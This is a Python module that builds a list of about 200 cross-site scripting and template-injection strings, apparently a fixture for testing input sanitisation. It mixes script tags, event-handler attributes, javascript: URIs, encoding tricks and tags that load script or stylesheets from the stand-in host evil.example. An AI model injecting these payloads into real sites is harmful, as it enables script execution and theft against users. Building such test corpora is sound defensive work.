"""Two hundred hostile strings: every way we know to smuggle markup or script into a page through a title, name or quote."""

from __future__ import annotations

_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
_ELEMENTS = (
    "<script>{x}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<svg><script>{x}</script></svg>",
    "<img src=x onerror={x}>", "<iframe srcdoc='<script>{x}</script>'></iframe>", "<object data='javascript:{x}'></object>",
    "<embed src='javascript:{x}'>", "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:{x}'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:{x}><button>go</button></form>", "<math><mtext><script>{x}</script></mtext></math>",
    "<template><script>{x}</script></template>", "<noscript><p title='</noscript><img src=x onerror={x}>'></noscript>",
    "<a href='javascript:{x}'>read</a>", "<video><source onerror={x}></video>", "<body onload={x}>", "<details open ontoggle={x}>",
    "<textarea></textarea><script>{x}</script>",
)  # fmt: skip
_CLOSERS = ("", '"', "'", "</title>", "</script>", "</q></p>", "-->", "]]>", '">', "'/>")
_ODD = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{{ settings.__class__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u202e\u2066<script>\u2069",
    "\u2028\u2029</script>",
    "<\u0000script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "＜script＞alert(1)＜/script＞",
    "\ufeff<script>",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    'x" autofocus onfocus=alert(1) y="',
    'https://ok.example/"><script>alert(1)</script>',
    "</a></li></ol></main><script>alert(1)</script>",
)


def payloads() -> list[str]:
    """All of them, each once, in the same order every time."""
    made = [closer + element.replace("{x}", "alert(1)") for element in _ELEMENTS for closer in _CLOSERS[:8]]
    made += [f'x" {handler}="alert(1)" y="' for handler in _HANDLERS]
    made += [f"<svg {handler}=alert(1)>" for handler in _HANDLERS]
    made += [f"{closer}<img src=x onerror=alert(1)>" for closer in _CLOSERS]
    return list(dict.fromkeys([*made, *_ODD]))[:200]
